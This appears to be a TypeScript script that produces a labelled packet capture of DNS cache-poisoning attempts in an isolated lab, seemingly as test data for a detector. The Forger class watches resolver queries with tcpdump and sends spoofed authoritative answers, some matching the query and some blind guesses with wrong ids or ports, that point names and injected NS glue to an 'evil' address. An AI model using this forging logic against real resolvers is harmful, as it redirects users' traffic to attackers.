// The scene of forged answers: real servers are held for some milliseconds while a forger with their addresses answers a resolver in their stead.

import type { ChildProcess } from 'node:child_process'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { createInterface } from 'node:readline'
import { pcapFile } from '../make/capture.ts'
import { encodeMessage } from '../make/message.ts'
import { Random } from '../make/random.ts'
import { address, nameRecord } from '../make/records.ts'
import { captureFiles } from '../make/sample.ts'
import { packetsOf, shifted } from './hijack-capture.ts'
import type { Forged } from './hijack-forge.ts'
import { Lab, resolvers } from './hijack-machines.ts'
import { type Site, Stage } from './hijack-stage.ts'

/** A query of a resolver as tcpdump shows it. */
interface Seen {
  port: number
  server: string
  id: number
  name: string
}

/** What a forger puts into an answer. */
interface Guess {
  id: number
  port: number
}

const [resolver = ''] = resolvers
const evil = '198.19.200.66'
const start = Date.UTC(2026, 2, 28, 12)
const guesses = 100
/** IP TTL of what the forger sends (hijack-lab.sh), and where it stands in an Ethernet frame. */
const forgedTtl = 57
const ttlOffset = 22

/** Records hijack-forged.pcap.gz and its label. */
export async function recordForgeries(space: string, work: string, folder: string): Promise<void> {
  const random = new Random(63)
  const stage = new Stage(work, random)
  const sites = Array.from({ length: 12 }, (_, n) => stage.addSite('example', n + 1))
  const lab = new Lab(space, work)
  const seconds = Math.round((start - Date.now()) / 1000)
  await lab.setClock(seconds)
  await lab.startServers(stage.operators.values())
  await lab.startResolvers(stage.anchor)
  const paths = await lab.startCapture('to-clients', 'to-servers', 'to-attacker')
  const forger = new Forger(lab)
  await forger.start()
  const truth: object[] = []
  const client = () => `192.0.2.${random.integer(10, 30)}`
  const plain = async (site: Site, ...labels: string[]) => {
    for (const label of labels) {
      await lab.ask([{ name: `${label}.${site.name}`, type: 'A', resolver: 0, client: client() }])
    }
  }
  const event = async (scenario: string, entity: object, act: () => Promise<void>) => {
    const first = iso()
    await act()
    truth.push({ scenario, kind: 'poisoning', entity, first, last: iso() })
    await sleep(300)
  }
  const iso = () => new Date(Date.now() + seconds * 1000).toISOString()
  const during = async (names: string[], forge: (seen: Seen) => Guess[], isSlow = false) => {
    lab.control(0, 'flush_infra', 'all')
    lab.hold('own')
    const asked = lab.ask(names.map((name) => ({ name, type: 'A', resolver: 0, client: client() })))
    await Promise.all(
      names.map(async (name) => {
        const seen = await forger.query(name)
        await forger.send(seen, forge(seen))
      }),
    )
    if (isSlow) await sleep(700)
    lab.release('own')
    await asked
  }
  const wrongId = ({ id }: Seen) => (id + random.integer(1, 65536)) & 0xffff

  for (const site of sites) await plain(site, 'www', 'mail', 'webmail', 'ns1', 'ns2', 'nobody')
  // Nobody's doing: servers that take longer than resolvers wait.
  for (const site of sites.slice(8, 11)) await during([`vpn.${site.name}`], () => [], true)
  for (const { name } of sites.slice(0, 4)) {
    const victim = `vpn.${name}`
    await event('forged answer, the real one late', { client: resolver, name: victim }, () =>
      during([victim], ({ id, port }) => [{ id, port }]),
    )
  }
  const many = (guess: () => Guess) => Array.from({ length: guesses }, guess)
  const blind: [scenario: string, forge: (seen: Seen) => Guess[]][] = [
    ['100 wrong ids', (seen) => many(() => ({ id: wrongId(seen), port: seen.port }))],
    ['100 wrong ports', ({ id, port }) => many(() => ({ id, port: otherPort(port) }))],
    [
      '100 wrong ids and ports',
      (seen) => many(() => ({ id: wrongId(seen), port: otherPort(seen.port) })),
    ],
  ]
  const otherPort = (port: number) => {
    const other = random.integer(1024, 65536)
    return other === port ? port - 1 : other
  }
  for (const [n, [scenario, forge]] of blind.entries()) {
    const { name } = sites[4 + n]
    await event(scenario, { client: resolver, domain: name }, () => during([`vpn.${name}`], forge))
  }
  const { name: zone } = sites[7]
  await event('100 siblings with a wrong id each', { client: resolver, domain: zone }, async () => {
    for (let batch = 0; batch < guesses / 10; batch++) {
      const names = Array.from({ length: 10 }, (_, n) => `r${batch * 10 + n}.${zone}`)
      await during(names, (seen) => [{ id: wrongId(seen), port: seen.port }])
    }
  })
  for (const site of sites) await plain(site, 'mx', 'remote')
  await lab.stop()
  const packets = shifted(packetsOf(paths), [{ fromMs: 0, seconds }])
  const kept = packets.filter(({ bytes }) => bytes[ttlOffset] === forgedTtl).length
  if (kept < forger.sent) {
    throw new Error(
      `${forger.sent - kept} of ${forger.sent} forged packets were lost: record again`,
    )
  }
  const label = {
    about:
      'A resolver (unbound) and name servers (NSD) that are held for some milliseconds while somebody with their addresses answers: four times rightly, so that the real answer comes late, and a hundred times each with wrong ids, wrong ports, both, and at siblings. Three times a server is slow and nobody answers for it. Recorded by samples/record/hijack-lab.sh.',
    packets: packets.length,
    truth,
  }
  mkdirSync(folder, { recursive: true })
  for (const { path, bytes } of captureFiles('hijack-forged.pcap.gz', pcapFile(packets), label)) {
    writeFileSync(join(folder, path), bytes)
  }
  console.error(`hijack-forged: ${packets.length} packets, ${lab.unanswered} unanswered`)
}

/** Sees the resolvers' queries, and sends answers to them. */
class Forger {
  /** Datagrams so far. */
  sent = 0
  readonly #lab: Lab
  readonly #seen = new Map<string, Seen>()
  readonly #waiting = new Map<string, (seen: Seen) => void>()
  readonly #done = new Map<number, () => void>()
  #process: ChildProcess | undefined
  #count = 0

  constructor(lab: Lab) {
    this.#lab = lab
  }

  async start(): Promise<void> {
    const script = join(import.meta.dirname, 'hijack-forge.ts')
    this.#process = this.#lab.run('attacker', [process.execPath, '--import', 'tsx', script])
    this.#lines(this.#process, (line) => this.#done.get(Number(line))?.())
    const look = ['tcpdump', '-Z', 'root', '-l', '-nn', '--immediate-mode', '-i', 'to-servers']
    const eye = await this.#lab.watch([...look, 'udp', 'dst', 'port', '53'])
    this.#lines(eye, (line) => {
      const match = /IP [\d.]+\.(\d+) > ([\d.]+)\.53: (\d+)\S* .*? ?A\? (\S+)\. /.exec(line)
      if (match === null) return
      const [, port, server = '', id, name = ''] = match
      const seen = { port: Number(port), server, id: Number(id), name }
      if (!server.startsWith('198.18.0.')) this.#notice(seen)
    })
    // The first datagram must not wait for a program to start.
    await sleep(1500)
  }

  #notice(seen: Seen): void {
    this.#seen.set(seen.name, seen)
    this.#waiting.get(seen.name)?.(seen)
  }

  /** The first query for a name at a server of its zone. */
  query(name: string): Promise<Seen> {
    const seen = this.#seen.get(name)
    if (seen !== undefined) return Promise.resolve(seen)
    return new Promise((resolve) => this.#waiting.set(name, resolve))
  }

  async send({ server, name }: Seen, list: readonly Guess[]): Promise<void> {
    if (list.length === 0) return
    const number = ++this.#count
    this.sent += list.length
    const zone = name.split('.').slice(-2).join('.')
    const datagrams = list.map(({ id, port }) => {
      const message = encodeMessage({
        id,
        response: true,
        aa: true,
        questions: [{ name, type: 'A' }],
        answers: [address(name, 86400, evil)],
        authorities: [nameRecord('NS', zone, 86400, `ns1.${zone}`)],
        additionals: [address(`ns1.${zone}`, 86400, evil)],
      })
      return { port, hex: Buffer.from(message).toString('hex') }
    })
    const line: Forged = { number, from: server, to: resolver, datagrams }
    const done = new Promise<void>((resolve) => this.#done.set(number, resolve))
    this.#process?.stdin?.write(`${JSON.stringify(line)}\n`)
    await done
  }

  #lines({ stdout }: ChildProcess, each: (line: string) => void): void {
    if (stdout === null) throw new Error('no output to read')
    createInterface({ input: stdout }).on('line', each)
  }
}

function sleep(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms))
}
